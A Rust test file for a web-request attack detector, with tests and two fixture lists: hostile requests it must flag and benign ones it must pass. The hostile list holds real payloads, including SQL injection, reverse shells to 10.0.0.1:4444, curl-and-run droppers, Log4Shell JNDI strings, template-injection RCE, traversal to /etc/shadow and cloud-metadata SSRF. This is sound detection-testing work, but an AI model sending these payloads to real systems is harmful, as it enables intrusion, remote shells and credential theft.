//! Requests written by hand in the manner of the attacks and of the traffic that a judge meets: what it must see,
//! and what it must let go.

use super::*;
use crate::request::Indicator;
use crate::timestamp::Timestamp;

fn verdict(path_and_query: &str, user_agent: &str) -> Option<Verdict> {
    let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
    let record = AccessRecord {
        method: b"GET",
        path_and_query: path_and_query.as_bytes(),
        user_agent: user_agent.as_bytes(),
        ..blank
    };
    Judge::new().judge(&record, &mut Scratch::default())
}

#[test]
fn hostile_requests_are_seen() {
    let judge = Judge::new();
    let mut scratch = Scratch::default();
    for request in HOSTILE {
        let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
        let record = AccessRecord { method: b"GET", path_and_query: request.as_bytes(), ..blank };
        let verdict = judge.judge(&record, &mut scratch);
        assert!(verdict.as_ref().is_some_and(Verdict::exploit_like), "{request} {verdict:?}");
    }
}

#[test]
fn ordinary_requests_are_let_go() {
    let judge = Judge::new();
    let mut scratch = Scratch::default();
    for request in ORDINARY {
        let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
        let record = AccessRecord { method: b"GET", path_and_query: request.as_bytes(), ..blank };
        let verdict = judge.judge(&record, &mut scratch);
        assert!(!verdict.as_ref().is_some_and(Verdict::exploit_like), "{request} {verdict:?}");
    }
}

#[test]
fn a_verdict_says_what_where_and_why() {
    let verdict = verdict("/item?id=7%27%20UNION%20SELECT%20name%20FROM%20users--", "x").expect("a verdict");
    assert_eq!((verdict.class, verdict.reference.as_deref()), (AttackClass::Sqli, Some("CRS 942")));
    assert_eq!(verdict.matched, "UNION SELECT name");
    assert_eq!(verdict.reason, "The request appends the rows of another query in parameter `id`.");
}

#[test]
fn indicators_are_what_would_reappear_on_the_host() {
    let found = |request: &str, agent: &str| verdict(request, agent).expect("a verdict").indicators;
    let indicators = found("/ping?host=1;wget+http://203.0.113.9/a.sh+-O+/tmp/a", "x");
    assert!(indicators.contains(&Indicator::Address("203.0.113.9".parse().expect("an address"))), "{indicators:?}");
    assert!(indicators.contains(&Indicator::Url("http://203.0.113.9/a.sh".to_owned())), "{indicators:?}");
    assert!(
        indicators.contains(&Indicator::Command("wget http://203.0.113.9/a.sh -O /tmp/a".to_owned())),
        "{indicators:?}"
    );
    let indicators =
        found("/", "${jndi:ldap://evil.example.net:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA==}");
    assert!(indicators.contains(&Indicator::Host("evil.example.net".to_owned())), "{indicators:?}");
    assert!(indicators.contains(&Indicator::Command("curl http://203.0.113.7/x".to_owned())), "{indicators:?}");
    assert!(indicators.contains(&Indicator::Address("203.0.113.7".parse().expect("an address"))), "{indicators:?}");
    let indicators = found("/get?f=..%2f..%2f..%2fetc%2fshadow", "x");
    assert!(indicators.contains(&Indicator::Path("/etc/shadow".to_owned())), "{indicators:?}");
    let indicators = found("/fetch?url=http://0xa9fea9fe/latest/", "x");
    assert!(indicators.contains(&Indicator::Address("169.254.169.254".parse().expect("an address"))), "{indicators:?}");
}

#[test]
fn scanners_and_shellshock_are_seen_in_the_user_agent() {
    assert_eq!(verdict("/", "sqlmap/1.8").map(|verdict| verdict.class), Some(AttackClass::ScannerUa));
    assert_eq!(verdict("/", "() { :;}; /bin/id").map(|verdict| verdict.class), Some(AttackClass::Shellshock));
    assert_eq!(verdict("/", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"), None);
}

#[test]
fn an_explanation_tells_every_step() {
    let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
    let record = AccessRecord { path_and_query: b"/?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", ..blank };
    let steps = Judge::new().explain(&record, &mut Scratch::default());
    let has = |stage: &str, text: &str| steps.iter().any(|step| step.stage == stage && step.text.contains(text));
    assert!(
        has("raw", "%252e")
            && has("decoded", "../../etc/passwd  (was: percent-encoded twice)")
            && has("found", "Traversal")
            && has("verdict", "exploit-like, Traversal")
    );
}

#[test]
fn what_was_judged_before_changes_no_verdict() {
    let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
    let browser = &b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"[..];
    let mut records = Vec::new();
    for path_and_query in
        [&b"/pages/doenterpagevariables.action"[..], b"/find?q=O%27Brien+and+his+sons", b"/a/plain/page/"]
    {
        for method in [&b"GET"[..], b"POST"] {
            for user_agent in [browser, b"a browser, as nuclei says it is"] {
                let request = AccessRecord { path_and_query, method, user_agent, ..blank };
                let framed = AccessRecord { anomaly: b"BothTeClPresent", ..request };
                let led = AccessRecord { referer: b"http://a/?x=;cat%20/etc/passwd", ..request };
                let cut = AccessRecord { query: b"x=' union select password from users--", ..request };
                records.extend([request, framed, led, cut, AccessRecord { escape: LogEscape::Raw, ..request }]);
            }
        }
    }
    let (judge, mut used) = (Judge::new(), Scratch::default());
    let fresh: Vec<_> = records.iter().map(|record| judge.judge(record, &mut Scratch::default())).collect();
    assert!(fresh.iter().any(Option::is_none) && fresh.iter().flatten().count() > records.len() / 2);
    for _ in 0..2 {
        let again: Vec<_> = records.iter().map(|record| judge.judge(record, &mut used)).collect();
        assert_eq!(again, fresh);
    }
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_judged(
        target in proptest::collection::vec(proptest::num::u8::ANY, 0..300),
        agent in proptest::collection::vec(proptest::num::u8::ANY, 0..80),
    ) {
        let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
        let record = AccessRecord { path_and_query: &target, user_agent: &agent, referer: &agent, query: &agent, ..blank };
        SHARED.with(|judge| judge.judge(&record, &mut Scratch::default()));
    }

    #[test]
    fn any_syntax_is_judged(target in "[/?&=%0-9a-f'\"();|&$`{}<>\\\\.:# +*,!@-]{0,120}") {
        let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
        let record = AccessRecord { path_and_query: target.as_bytes(), ..blank };
        SHARED.with(|judge| judge.judge(&record, &mut Scratch::default()));
    }
}

std::thread_local! {
    /// Building a judge for every case would take most of the test's time.
    static SHARED: Judge = Judge::new();
}

/// What targets are made of: telling words, whole and short of a byte, and what stands between words.
fn pieces() -> impl proptest::strategy::Strategy<Value = Vec<String>> {
    use proptest::prelude::*;
    let words = sign::words().into_iter().flat_map(|word| [word.to_owned(), word.chars().skip(1).collect()]);
    let word = proptest::sample::select(words.filter(|word| !word.is_empty()).collect::<Vec<_>>());
    let mark = proptest::sample::select(&["/", "?", "&", "=", "-", "_", ".", ",", "~", "!"][..]);
    let piece = prop_oneof![3 => mark.prop_map(str::to_owned), 2 => "[a-z0-9]{1,6}", 2 => word];
    proptest::collection::vec(piece, 1..12)
}

proptest::proptest! {
    // The same in every run: what a long one finds is mended, and stands in the sieve's own table from then on.
    #![proptest_config(proptest::test_runner::Config { rng_seed: proptest::test_runner::RngSeed::Fixed(4), ..proptest::test_runner::Config::with_cases(2000) })]

    /// The look that lets most requests go lets nothing go in which the judges see an exploit.
    #[test]
    fn what_is_let_go_after_a_look_is_no_exploit(pieces in pieces()) {
        static JUDGE: std::sync::LazyLock<Judge> = std::sync::LazyLock::new(Judge::new);
        let target = format!("/{}", pieces.concat());
        let blank = AccessRecord::blank(Timestamp::default(), Timestamp::default());
        let record = AccessRecord { method: b"GET", path_and_query: target.as_bytes(), ..blank };
        if JUDGE.target_is_plain(&record) {
            let mut scratch = Scratch::default();
            JUDGE.find(&record, true, &mut scratch);
            let verdict = super::verdict(&scratch.target, &scratch.found);
            proptest::prop_assert!(!verdict.as_ref().is_some_and(Verdict::exploit_like), "{} {:?}", target, verdict);
        }
    }
}

const HOSTILE: &[&str] = &[
    "/_cat/indices?v",
    "/_cluster/settings",
    "/api/v1/namespaces/default/secrets",
    "/v1.24/containers/json",
    "/a?locale=%0D%0ATest-Header:yes",
    "/a?theme=dark%0D%0A%20My-Header:yes",
    "/go?to=https://shop.example/a%0D%0Atracker:%201",
    "/form?from=%0ARCPT%20TO:%3Cme%40shop.example%3E%0A",
    "/p?id=ELT(41=41,9)",
    "/p?sort=7,IIF(55=55,3,1/0)",
    "/p?id=7+and+LNNVL(0=9)",
    "/p?id=1%27;drop%20role%20admin--",
    "/p?q=1;xp_cmdshell%20%27dir%27",
    "/p?f=at+system+(%22id%22)",
    "/p?f=FOR+%25%7D+IN+(x,y)+DO+whoami",
    "/p?x=1||tree",
    "/p?id=5%20and%20CHECKSUM(9)=CHECKSUM(9)",
    "/p?s=1%60,sleep(4)%231",
    "/p?id=;execute%20immediate%20%27dr%27||%27op%27",
    "/p?t=%7B%7B12%7Cadd:30%7D%7D",
    "/p?u=https://a-169.254.169.254.names.example/x",
    "/p?page=data:application/x-httpd-php;base64,AAAA",
    "/p?filter=%7B%22user%22:%7B%22$gt%22:undefined%7D%7D",
    "/p?m=alert?.(document?.domain)",
    "/p?img=data:image/svg%2Bxml;base64,PHN2ZyBvbmxvYWQ9ImZvbygpIj48L3N2Zz4=",
    "/p?a=--gpu-launcher=touch%20/tmp/x",
    "/p?f=%26+FOR+%25%7E+IN+(x,y)+DO+whoami",
    "/p?f=1;load%20xml%20local%20infile%20%22x%22",
    r#"/?id=1%20AND%20(SELECT%209999%20FROM%20(SELECT(SLEEP(5)))abc)"#,
    r#"/?id=1'%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20@@version)))--+"#,
    r#"/?id=1%27%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200x28%20END))--"#,
    r#"/?q=1;SELECT%20PG_SLEEP(5)--"#,
    r#"/?id=-1%20OR%203*2*1=6%20AND%20000123=000123"#,
    r#"/?id=if(now()=sysdate(),sleep(15),0)"#,
    r#"/?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"#,
    r#"/?id=1%20waitfor%20delay%20'0:0:15'%20--%20"#,
    r#"/?user=admin'%20or%20'1'='1'/*"#,
    r#"/?user=admin")%20or%20("1"="1"--"#,
    r#"/?id=1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98),15)||'"#,
    r#"/?id=1%20and%20ascii(lower(substring((select%20top%201%20name%20from%20sysobjects),1,1)))>109"#,
    r#"/?id=(select%20load_file(concat('\\\\',version(),'.x.example\\a')))"#,
    r#"/?id=1'%20ORDER%20BY%2010--+-"#,
    r#"/?id=1'%20GROUP%20BY%201,2,3--+"#,
    r#"/?id=1%09UNION%09ALL%09SELECT%09NULL,NULL--"#,
    r#"/?id=1/*!12345UNION*//*!12345SELECT*/1,2,3"#,
    r#"/?id=1%20uNiOn%20aLl%20sElEcT%20group_concat(table_name)%20from%20information_schema.tables"#,
    r#"/?id=1'%20and%20json_extract('{"a":1}','$.a')=1--"#,
    r#"/?name='%20or%20sleep(5)%20or%20'"#,
    r#"/?name=x'%3bcopy+(select+'')+to+program+'nslookup+x.example'--"#,
    r#"/?name=a'%20like%20'a"#,
    r#"/?id=1%20procedure%20analyse()"#,
    r#"/?id=true%20and%20true"#,
    r#"/?pass='%20or%20''='"#,
    r#"/?u='or'a'='a"#,
    r#"/?u=1%27)%20or%20%271%27%20like%20(%271"#,
    r#"/?cmd=cat+/etc/passwd"#,
    r#"/?host=127.0.0.1;cat+/etc/passwd"#,
    r#"/?host=127.0.0.1%0acat%20/etc/passwd"#,
    r#"/?host=127.0.0.1|id"#,
    r#"/?host=127.0.0.1%26%26id"#,
    r#"/?x=$(id)"#,
    r#"/?x=`id`"#,
    r#"/?x=${IFS}cat${IFS}/etc/passwd"#,
    r#"/?x=;c''at%20/e''tc/pa''sswd"#,
    r#"/?x=;/bin/c?t%20/etc/p?sswd"#,
    r#"/?x=|nc%2010.0.0.1%204444%20-e%20/bin/bash"#,
    r#"/?x=;bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444%200>%261"#,
    r#"/?x=%26ping%20-n%203%20127.0.0.1%26"#,
    r#"/?x=|powershell%20-enc%20aQBlAHgA"#,
    r#"/?x=;curl%20http://203.0.113.9/a.sh|bash"#,
    r#"/?x=||wget%20203.0.113.9/x%20-O%20/tmp/x"#,
    r#"/?x=a;sleep%2010"#,
    r#"/?x=%3Bsleep%2010%3B"#,
    r#"/?x=$(sleep%2010)"#,
    r#"/?x=%60sleep%2010%60"#,
    r#"/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws"#,
    r#"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://203.0.113.9/t+-O-|sh`)"#,
    r#"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"#,
    r#"/?x=python3%20-c%20'import%20os;os.system("id")'"#,
    r#"/?x=echo%20Y3VybCBodHRwOi8v|base64%20-d|sh"#,
    r#"/boaform/admin/formLogin?username=adminisp&psd=adminisp"#,
    r#"/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php"#,
    r#"/index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello"#,
    r#"/?file=....//....//....//etc/passwd"#,
    r#"/?file=..%252f..%252f..%252fetc%252fpasswd"#,
    r#"/?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"#,
    r#"/?file=/etc/passwd%00.jpg"#,
    r#"/?file=/proc/self/environ"#,
    r#"/?file=php://filter/convert.base64-encode/resource=index"#,
    r#"/?file=file:///etc/passwd"#,
    r#"/?file=C:\Windows\System32\drivers\etc\hosts"#,
    r#"/?page=http://203.0.113.9/shell.txt?"#,
    r#"/?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"#,
    r#"/?page=expect://id"#,
    r#"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"#,
    r#"/icons/.%%32%65/.%%32%65/etc/passwd"#,
    r#"/..;/manager/html"#,
    r#"/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"#,
    r#"/.git/config"#,
    r#"/.env"#,
    r#"/wp-config.php.bak"#,
    r#"/actuator/env"#,
    r#"/server-status"#,
    r#"/?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"#,
    r#"/?url=http://[::ffff:169.254.169.254]/"#,
    r#"/?url=http://2852039166/latest/"#,
    r#"/?url=http://localhost:6379/"#,
    r#"/?url=gopher://127.0.0.1:6379/_INFO"#,
    r#"/?url=http://metadata.google.internal/computeMetadata/v1/"#,
    r#"/?url=http://127.0.0.1.nip.io/"#,
    r#"/?x=${jndi:ldap://203.0.113.9:1389/a}"#,
    r#"/?x=%24%7b%6a%6e%64%69%3a%6c%64%61%70%3a%2f%2f203.0.113.9%2fa%7d"#,
    r#"/?x=${${lower:j}${lower:n}di:${lower:l}dap://x.example/a}"#,
    r#"/?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}"#,
    r#"/?x=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"#,
    r#"/?x={{7*7}}"#,
    r#"/?x=${7*7}"#,
    r#"/?x=<%25=7*7%25>"#,
    r#"/?x=#{7*7}"#,
    r#"/?x={{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"#,
    r#"/?x={{''.__class__.__mro__[1].__subclasses__()}}"#,
    r#"/?x={{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}"#,
    r#"/?x=${T(java.lang.Runtime).getRuntime().exec('id')}"#,
    r#"/?x=*{T(java.lang.Runtime).getRuntime().exec('id')}"#,
    r#"/?x={php}echo+`id`;{/php}"#,
    r#"/?x=<#assign+ex="freemarker.template.utility.Execute"?new()>${ex("id")}"#,
    r#"/?x=%25{(%23a=@java.lang.Runtime@getRuntime().exec('id'))}"#,
    r#"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"#,
    r#"/?x=<?php+system('id');?>"#,
    r#"/?x=<?=`id`?>"#,
    r#"/?x=;phpinfo();"#,
    r#"/?x=${@phpinfo()}"#,
    r#"/?x=eval(base64_decode('cGhwaW5mbygpOw=='))"#,
    r#"/?x=O:8:"stdClass":1:{s:1:"a";s:1:"b";}"#,
    r#"/?x=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="#,
    r#"/?x=__import__('os').system('id')"#,
    r#"/?x=require('child_process').exec('id')"#,
    r#"/?__proto__[polluted]=1"#,
    r#"/?constructor[prototype][x]=1"#,
    r#"/?x=<script>alert(1)</script>"#,
    r#"/?x="><svg/onload=alert(1)>"#,
    r#"/?x=javascript:alert(1)"#,
    r#"/?x='-alert(1)-'"#,
    r#"/?x="><img+src=x+onerror=prompt(1)>"#,
    r#"/?x=<details+open+ontoggle=alert(1)>"#,
    r#"/?x=%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E"#,
    r#"/?x=<iframe/src="data:text/html,<svg onload=alert(1)>">"#,
    r#"/?x=\"};alert(1);//"#,
    r#"/?x=<body+onload=alert(1)>"#,
    r#"/?x=<a+href="jav%09ascript:alert(1)">x</a>"#,
    r#"/?x=<ScRiPt+>prompt(1)</ScRiPt>"#,
    r#"/?x=%22%3E%3Cmarquee%20onstart=alert(1)%3E"#,
    r#"/?x=<math><mtext></form><form><mglyph><style></math><img+src+onerror=alert(1)>"#,
    r#"/?x=*)(uid=*))(|(uid=*"#,
    r#"/?user[$ne]=1&pass[$ne]=1"#,
    r#"/?q={"$where":"sleep(5000)"}"#,
    r#"/?q=<!DOCTYPE+x+[<!ENTITY+e+SYSTEM+"http://203.0.113.9/">]>"#,
    r#"/?q=<!--%23exec+cmd="id"-->"#,
    r#"/?q=%0d%0aSet-Cookie:+a=b"#,
    r#"/%0d%0aX-Injected:%20yes"#,
    r#"/?q=x%0d%0a%0d%0a<html>"#,
    r#"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"#,
    r#"/manager/html"#,
    r#"/owa/auth/x.js"#,
    r#"/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com"#,
    r#"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"#,
    r#"/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"#,
    r#"/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"#,
    r#"/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"#,
    r#"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"#,
    r#"/_ignition/execute-solution"#,
    r#"/.aws/credentials"#,
    r#"/backup.zip"#,
    r#"/c99.php"#,
    r#"/uploads/shell.php?cmd=whoami"#,
    r#"/x.jsp?pwd=023&i=ls"#,
    r#"/relay/169.254.169.254/latest/user-data"#,
    r#"/get/http:/2852039166/x"#,
    r#"/hop/[fd00:ec2::254]/y"#,
    r#"/?host=%3Btac%24z%20/etc%24z/hosts%24z"#,
    r#"/?host=1|/e*c/*roup"#,
    r#"/?host=%24'\167\150\157'"#,
    r#"/?host=%25ProgramFiles:~3,1%25"#,
    r#"/?n=(41=42)*7"#,
    r#"/?n=3%20AND%20SOUNDEX('b')%20!=%2077"#,
    r#"/?mail=me@shop.example%0D%0ASubject:%20news"#,
    r#"/?box=INBOX%22%0D%0AA7%20FETCH%2012"#,
    r#"/?to=%22x%22%20-OQueueDirectory=/tmp%20-X/var/www/y.php"#,
    r#"/go?to=/a%0D%0Aetag:%20b"#,
    r#"/?c=%20oNfOcus=go(7)"#,
    r#"/?x=BAhvOhRTb21lOjpDbGFzcw=="#,
    r#"/?x=')%20DETACH%20DELETE%20n"#,
    r#"/1999.tar.gz"#,
    r#"/config.php.txt"#,
    r#"/wp-json/wp/v2/users"#,
    r#"/list?group='"#,
    r#"/list?group='thing"#,
    r#"/list?key='or'b='b"#,
    r#"/list?key=3'+delete+from+orders"#,
    r#"/list?b=into+the+cartand+1=1"#,
    r#"/list?key=9%00"#,
    r#"/cgi-bin/tool.exe"#,
    r#"/x?y=7&dir;%3Eq7"#,
    r#"/x?y=7&rem;"#,
    r#"/x?y=data:;base64+-w0+/srv/app.py"#,
    r#"/x?host=1%26Net+user+eve+Pw1+/add"#,
    r#"/relay/168.63.129.16/machine"#,
    r#"/x?y=;$'c\141t'+a"#,
    r#"/x?y=q+onfocus=a.go(7)"#,
    r#"/backup.json.gz"#,
    r#"/x?y=a%22||echo+4d+5a+%3E%3Ez"#,
    r#"/x?y='uname+%23"#,
    r#"/x?y='my_test.nasl"#,
];

const ORDINARY: &[&str] = &[
    "/_cat/indices?v&s=index&h=index,health",
    "/_cluster/health?wait_for_status=green&timeout=30s",
    "/api/v1/namespaces/web/pods/front-0/log?container=app",
    "/v1.47/containers/json?all=1",
    "/druid/v2/sql/task/query-1/reports",
    "/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=a&compress=1",
    "/api/channels.history?channel=C1",
    "/monitor/cgi-bin/status.cgi?host=all",
    "/users.json?sort=age",
    "/api/items?branch=fix/select-menu",
    "/chart?events=div%7Csplit",
    "/s?q=sleep%20(7%20rules%20for%20parents)",
    "/s?q=benchmark%20(office%20laptop)%202025",
    "/s?catalog=drop%20table%20leg%20brackets",
    "/s?q=%22;%20drop%20the%20beat%22%20mug",
    "/s?q=information_schema.columns%20explained",
    "/s?q=what%20is%20xp_cmdshell",
    "/s?text=twig%20%7B%25%20for%20%25%7D%20example",
    "/jserror?s=at%20eval%20(eval%20at%20%3Canonymous%3E)",
    "/badge/x?logo=data:image/svg%2Bxml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
    "/contact?note=Hello%0D%0AE-Mail:%20me",
    "/contact?note=see%20below%0D%0APhone:%205",
    "/s?q=solve%20(2=2)%20puzzle",
    "/contact?note=Hi%0AFollow-up:%20a%20call",
    "/sub?urls=https://a.example/x%0Ahttps://b.example/y",
    "/themes/hudson/script.js",
    "/f?tags=old|add:new",
    "/s?q=django%20filter%20%7B%7B%20x%7Cadd:3%20%7D%7D",
    r#"/search?q=select+a+plan+from+our+list"#,
    r#"/search?q=O%27Reilly+and+sons"#,
    r#"/search?q=rock+%26+roll"#,
    r#"/search?q=c%2B%2B+vs+c%23"#,
    r#"/search?q=5%27+9%22+tall"#,
    r#"/search?q=%22exact+phrase%22+and+more"#,
    r#"/product?filter=price%3E10%20and%20price%3C20"#,
    r#"/api?filter=name%20eq%20%27x%27%20or%20id%20eq%205"#,
    r#"/graphql?query=%7Buser(id:1)%7Bname%7D%7D"#,
    r#"/?utm_source=a&utm_medium=b&gclid=Cj0KCQjw"#,
    r#"/callback?code=abc&state=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.x_y-z"#,
    r#"/redirect?url=https%3A%2F%2Fwww.example.com%2Fpath%3Fa%3Db%26c%3Dd"#,
    r#"/thumb?src=https://cdn.example.com/a.jpg&w=100&h=50"#,
    r#"/calc?expr=3*(4+5)"#,
    r#"/map?bbox=-122.5,37.7,-122.3,37.8"#,
    r#"/wiki/C_(programming_language)"#,
    r#"/wiki/AC/DC"#,
    r#"/docs/etc/passwd-file-format.html"#,
    r#"/blog/how-to-cat-etc-passwd"#,
    r#"/article/sql-injection-explained"#,
    r#"/a/b;jsessionid=0123456789ABCDEF?x=y"#,
    r#"/photos/my%20summer%20(2019).jpg"#,
    r#"/files/report%20final%20-%20copy.pdf"#,
    r#"/q?json=%7B%22a%22:%5B1,2,3%5D,%22b%22:%22c%22%7D"#,
    r#"/login?next=/account/settings?tab=security"#,
    r#"/search?q=javascript+alert+box"#,
    r#"/search?q=script+writing+tips"#,
    r#"/tags/%E6%97%A5%E6%9C%AC%E8%AA%9E"#,
    r#"/search?q=it%27s+5+o%27clock;+let%27s+go"#,
    r#"/?email=john.o%27connor%40example.com"#,
    r#"/feed?since=2024-05-06T07:08:09%2B00:00"#,
    r#"/p/10-20--30--40"#,
    r#"/comments?text=I+%3C3+you+%26+me"#,
    r#"/comments?text=a+%3C+b+and+c+%3E+d"#,
    r#"/prom?query=sum(rate(http_requests_total%5B5m%5D))+by+(job)"#,
    r#"/es?q=name:%22john%22+AND+age:[20+TO+30]"#,
    r#"/s?k=iphone+%7C+ipad&ref=nb_sb_noss"#,
    r#"/ad?cb=%%CACHEBUSTER%%&click=$%7BCLICK_URL%7D"#,
    r#"/track?e=%7B%7Bevent%7D%7D"#,
    r#"/?q=id"#,
    r#"/?sort=-price&order=desc"#,
    r#"/list?page=2;size=10"#,
    r#"/saml?SAMLRequest=fZJNT%2BMwEIbvK%2B1%2FsHzPJ"#,
    r#"/?pw=%24ecret%21%23pass"#,
    r#"/note?text=Line+one%0D%0ALine+two%0D%0AThanks"#,
    r#"/form?msg=Dear+team,%0A%0APlease+order+by+Friday.+Thanks;+Bob"#,
    r#"/wp-json/wp/v2/users/me?context=edit"#,
    r#"/sitemap.xml.gz"#,
    r#"/actuator/health"#,
    r#"/api/v1/repos/me/tool/contents/.github/settings.yml"#,
    r#"/sync?Cmd=Ping&DeviceType=phone"#,
    r#"/q?term=inline+data:image/gif;base64+in+css"#,
    r#"/order?street=5+Mill+Rd;+Apt+7"#,
    r#"/d/nodes?var-node=10.1.2.3:9100"#,
    r#"/s?title=Men%27s+%22Select%22+fit"#,
    r#"/list?search=type+%3D+BUG+AND+state+in+(Open,+Done)+ORDER+BY+created"#,
    r#"/s?q=%E6%95%99%E7%A8%8B+union+select+%E6%95%99%E7%A8%8B"#,
    r#"/s?q=bash:+$'\r':+command+not+found"#,
    r#"/calc?precision=12"#,
    r#"/autodiscover/autodiscover.json?Email=a@b.example&Protocol=EWS"#,
    r#"/s?q=dict://+what+is+this"#,
    r#"/s?q='tis+the+season"#,
    r#"/s?q='tis"#,
    r#"/find?tags=db.text%3D%22DELETE+FROM+t%22"#,
    r#"/files/setup.exe"#,
    r#"/s?q=learn+c+%23"#,
    r#"/en/latest/api/tokens.html"#,
    r#"/api/v1/instance-data"#,
    r#"/rows?draw=3&search[value]=%22whi"#,
    r#"/login?email=anna.naslund@shop.example"#,
    r#"/page?id=5&quot;%3ERead%20more%3C/a%3E"#,
    r#"/notes?text=Q1+done%0D%0AQ2+status+pending"#,
    r#"/notes?text=Mail+me+at+bob@shop.example.%0D%0AThanks%0D%0ATo:+the+team"#,
    r#"/rules?of=/api/**+and+more"#,
    r#"/js/jquery-file-upload.min.js"#,
    r#"/sum?note=discount:~20%25"#,
    r#"/announce?info_hash=%12%00%8f%f1"#,
];
